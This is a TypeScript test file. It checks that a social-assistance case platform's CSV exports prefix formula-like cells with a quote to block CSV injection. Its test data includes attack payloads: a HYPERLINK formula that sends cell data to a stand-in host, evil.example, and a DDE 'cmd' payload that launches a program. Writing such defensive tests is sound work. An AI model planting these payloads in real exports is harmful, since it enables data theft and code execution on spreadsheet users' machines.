import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv as gatewayCsv } from '../gateway/csv-export.js';
import { collectionSpec } from '../subgraphs/import-export.js';
import { exportRows, toCsv } from '../platform/import-export/export.js';
import { parseRows } from '../platform/import-export/read.js';
import { fromSpreadsheetCell, spreadsheetCell } from '../platform/import-export/spreadsheet-cell.js';
import { ADMIN, startTestStack, type TestStack } from './utils/stack.js';

/**
 * CSV injection: formula-like text written into the database through the raw driver comes out of
 * both CSV writers (GET /export.csv over HTTP, the CLI export) with a leading `'`, numbers stay
 * numbers, and the import reads our own export back to the original text.
 */
const LEADS = ['=', '+', '-', '@', '\t', '\r'];
const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', '=1+2', '@SUM(A1)', "+cmd|' /C calc'!A0", '-2+3'];
/** Every lead in front of each payload's body, and in front of the whole payload (`\t=1+2`). */
const DANGEROUS = [
  ...new Set(LEADS.flatMap((lead) => PAYLOADS.flatMap((payload) => [lead + payload.slice(1), lead + payload]))),
];
/** Text that stays as it is, and text that already looks neutralised (gets one more `'`). */
const SAFE = ['张三', 'a=b', ' =1+2', "'plain"];
const LOOKS_NEUTRALISED = ["'=1+2", "''-2"];
const VALUES = [...DANGEROUS, ...SAFE, ...LOOKS_NEUTRALISED];

const expectedCell = (value: string) => (SAFE.includes(value) ? value : `'${value}`);

describe('spreadsheetCell', () => {
  it('prefixes every string starting with = + - @ tab or CR, leaves numbers and booleans typed', () => {
    for (const value of DANGEROUS) expect(spreadsheetCell(value)).toBe(`'${value}`);
    for (const value of SAFE) expect(spreadsheetCell(value)).toBe(value);
    expect([spreadsheetCell(-5), spreadsheetCell(+3), spreadsheetCell(true), spreadsheetCell(null)]).toEqual([
      -5,
      3,
      true,
      null,
    ]);
    expect(spreadsheetCell('-5')).toBe("'-5");
    for (const value of VALUES) expect(fromSpreadsheetCell(String(spreadsheetCell(value)))).toBe(value);
  });

  it('the gateway writer keeps a negative number a number and neutralises the same text', () => {
    const rows = parse(gatewayCsv([{ n: -5, s: '-5', f: '=1+2' }]), { bom: true, columns: true });
    expect(rows).toEqual([{ n: '-5', s: "'-5", f: "'=1+2" }]);
  });
});

describe('CSV injection through the real writers', () => {
  let stack: TestStack;
  let ids: string[];
  const DIVISION = '410503';

  beforeAll(async () => {
    stack = await startTestStack({ seed: true });
    const cases = stack.connections['civil-affairs'].collection('assistance_cases');
    // The cases DibaoCaseList lists first, so the export below reaches them all.
    const listed = await stack.graphql<{ assistanceCases: { edges: Array<{ node: { id: string } }> } }>(
      `{ assistanceCases(first: 100, filter: { divisionCode: "${DIVISION}", program: DIBAO, status: ACTIVE }) { edges { node { id } } } }`,
      { token: await stack.token(ADMIN) },
    );
    ids = listed.body.data!.assistanceCases.edges.map((edge) => edge.node.id).slice(0, VALUES.length);
    expect(ids).toHaveLength(VALUES.length);
    await Promise.all(
      ids.map((id, index) =>
        cases.updateOne({ _id: id } as never, {
          $set: { recipientName: VALUES[index], persons: index === 0 ? -5 : 2 },
        }),
      ),
    );
  }, 120_000);
  afterAll(async () => {
    await stack?.stop();
  });

  function expectNeutralised(rows: Record<string, string>[]): void {
    const byId = new Map(rows.map((row) => [row.id, row]));
    expect(ids, 'the cases written with the test values').toHaveLength(VALUES.length);
    ids.forEach((id, index) => {
      const row = byId.get(id)!;
      expect(row.recipientName, JSON.stringify(VALUES[index])).toBe(expectedCell(VALUES[index]));
      expect(row.persons).toBe(index === 0 ? '-5' : '2');
    });
  }

  it('GET /export.csv writes every dangerous cell with a leading quote and numbers unchanged', async () => {
    const url = new URL(stack.gatewayUrl.replace(/\/graphql$/, '/export.csv'));
    url.searchParams.set('operation', 'DibaoCaseList');
    url.searchParams.set('variables', JSON.stringify({ division: DIVISION, first: 100 }));
    const response = await fetch(url, { headers: { authorization: `Bearer ${await stack.token(ADMIN)}` } });
    expect(response.status).toBe(200);
    expectNeutralised(parse(Buffer.from(await response.arrayBuffer()), { bom: true, columns: true }));
  });

  it('the CLI export does the same, and the import reads the original text back', async () => {
    const spec = collectionSpec('assistance-cases');
    const csv = toCsv(await exportRows(stack.connections['civil-affairs'], spec, DIVISION), ['id', ...spec.columns]);
    expectNeutralised(parse(csv, { bom: true, columns: true }));
    const imported = new Map(
      parseRows(csv.slice(1), 'csv').rows.map((row) => [row.values.id, row.values.recipientName]),
    );
    expect(ids, 'the cases written with the test values').toHaveLength(VALUES.length);
    ids.forEach((id, index) => expect(imported.get(id)).toBe(VALUES[index]));
  });
});
